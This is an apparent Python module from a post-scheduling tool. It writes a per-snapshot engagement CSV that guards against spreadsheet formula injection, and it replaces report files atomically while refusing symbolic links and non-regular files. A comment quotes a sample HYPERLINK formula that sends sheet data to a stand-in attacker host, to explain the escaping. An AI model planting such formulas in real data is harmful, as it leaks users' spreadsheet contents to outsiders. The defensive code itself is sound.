"""Report files: the engagement CSV (one row per snapshot, safe to open in a spreadsheet)
and `replace_file`, the careful whole-file write the CSV and the chart share."""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import IO, Any

from scheduler.engagement.figures import FIGURES
from scheduler.engagement.report import PostEngagement
from scheduler.errors import SchedulerError
from scheduler.files import write_atomic

# The CSV's columns, in order. Documented in README.md and docs/engagement.md: add new
# columns at the end, never rename or reorder (people build spreadsheets on them).
CSV_COLUMNS = (
    "month",
    "ref",
    "title",
    "platform",
    "remote_id",
    "url",
    "posted_at",
    "offset",
    "taken_at",
    "state",
    *FIGURES,
    "engagement_rate",
    "unavailable",
)

# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell beginning with one of these
# as a formula: `=HYPERLINK("https://evil.example/?"&A1,"Click")` in an imported title would
# leak the sheet. OWASP's advice is to make such cells text with a leading apostrophe.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """`text` made safe for a CSV cell: prefixed with `'` when it begins with a character a
    spreadsheet would read as the start of a formula (`FORMULA_STARTS`), else unchanged.
    Only for text from outside; our own numbers and timestamps never need it."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_rows(entries: Iterable[PostEngagement]) -> Iterable[list[str]]:
    """The CSV's rows, one per snapshot, in `CSV_COLUMNS` order. Every text cell goes
    through `spreadsheet_text`; counts, the rate and timestamps are formatted here and are
    never negative, so they stay numbers."""
    text = spreadsheet_text
    for e in entries:
        for s in e.snapshots:
            yield [
                text(e.month),
                text(e.ref),
                text(e.title),
                text(e.platform),
                text(e.remote_id),
                text(e.url),
                e.posted_at.isoformat() if e.posted_at else "",
                text(s.offset),
                s.taken_at.isoformat() if s.taken_at else "",
                text(s.state),
                *("" if s.figures.get(f) is None else str(s.figures[f]) for f in FIGURES),
                "" if s.engagement_rate is None else f"{s.engagement_rate:.6f}",
                text("; ".join(s.unavailable)),
            ]


def write_csv(entries: Iterable[PostEngagement], path: str | os.PathLike[str]) -> int:
    """One row per snapshot under the `CSV_COLUMNS` header, UTF-8 (no byte-order mark),
    written as `replace_file` does. Returns the number of rows; raises ReportWriteError."""
    count = 0

    def write(fh: IO[Any]) -> None:
        nonlocal count
        writer = csv.writer(fh)
        writer.writerow(CSV_COLUMNS)
        for row in csv_rows(entries):
            writer.writerow(row)
            count += 1

    replace_file(path, write, text=True)
    return count


# ---- writing a report file -----------------------------------------------------------------


class ReportWriteError(SchedulerError):
    """The CSV or chart could not be written. The message names the path as the user gave
    it (never a temporary file); the CLI prints it and exits 1."""

    def __init__(self, path: str, reason: str) -> None:
        self.path = path
        self.reason = reason
        super().__init__(f"cannot write {path}: {reason}" if path else reason)


def output_path(path: str | os.PathLike[str]) -> Path:
    """`path` as a Path, or ReportWriteError if it is empty (`--csv ''`; `Path('')` would
    quietly mean the current folder) or holds a NUL character."""
    name = os.fspath(path)
    if not name:
        raise ReportWriteError("", "cannot write the report: the file name is empty")
    if "\0" in name:
        raise ReportWriteError(repr(name), "the file name contains a NUL character")
    return Path(name)


def check_replaceable(path: str | os.PathLike[str]) -> Path:
    """What `replace_file` refuses about `path` itself, checked without writing anything:
    an empty name, a file where one of its folders should be, a folder, a symbolic link or
    a non-regular file (ReportWriteError)."""
    target = output_path(path)
    shown = os.fspath(path)
    for folder in (*reversed(target.parent.parents), target.parent):
        if os.path.lexists(folder) and not folder.is_dir():
            raise ReportWriteError(shown, f"{folder} is not a folder")
    _replaceable_mode(target, shown)
    return target


def replace_file(
    path: str | os.PathLike[str], write: Callable[[IO[Any]], None], *, text: bool = False
) -> None:
    """Write a whole file at `path`: `write` fills a new temporary file in the same folder,
    which is then renamed over `path`, so a reader never sees half a report. Missing
    folders are created. The file keeps the permissions of the one it replaces.

    Refuses (ReportWriteError, nothing written) a `path` that is a folder, a device, a
    fifo or any other non-regular file, and a symbolic link: renaming would replace the
    link, and following it would let whoever made the link choose what we overwrite (we
    often run as root). The temporary file is removed on every failure, and any OSError
    becomes a ReportWriteError naming `path` as given."""
    target = output_path(path)
    shown = os.fspath(path)
    _make_folder(target, shown)
    mode = _replaceable_mode(target, shown)
    # The temporary file is unique and created exclusively (`write_atomic`): a planted
    # `.x.csv.tmp` link cannot redirect us.
    try:
        write_atomic(target, write, text=text, mode=mode)
    except OSError as exc:
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc


def _make_folder(target: Path, shown: str) -> None:
    """Create the folder `target` goes in, naming the part of the path that is not a
    folder (`--csv afile/x.csv`) rather than passing on "File exists"."""
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
    except (FileExistsError, NotADirectoryError) as exc:
        for folder in (*reversed(target.parent.parents), target.parent):
            if os.path.lexists(folder) and not folder.is_dir():
                raise ReportWriteError(shown, f"{folder} is not a folder") from exc
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc
    except OSError as exc:
        reason = f"cannot create the folder {target.parent} ({exc.strerror or exc})"
        raise ReportWriteError(shown, reason) from exc


def _replaceable_mode(target: Path, shown: str) -> int:
    """The permission bits for the new file: those of the regular file it replaces, or
    the usual 0666 less the umask. ReportWriteError if `target` is anything else."""
    try:
        info = os.lstat(target)
    except FileNotFoundError:
        umask = os.umask(0o022)
        os.umask(umask)
        return 0o666 & ~umask
    except OSError as exc:
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc
    if stat.S_ISLNK(info.st_mode):
        reason = f"it is a symbolic link (to {os.readlink(target)}); give the file's own path"
        raise ReportWriteError(shown, reason)
    if stat.S_ISDIR(info.st_mode):
        raise ReportWriteError(shown, "it is a folder")
    if not stat.S_ISREG(info.st_mode):
        raise ReportWriteError(shown, "not a regular file")
    return stat.S_IMODE(info.st_mode) & 0o777  # never carry set-id bits over to a report
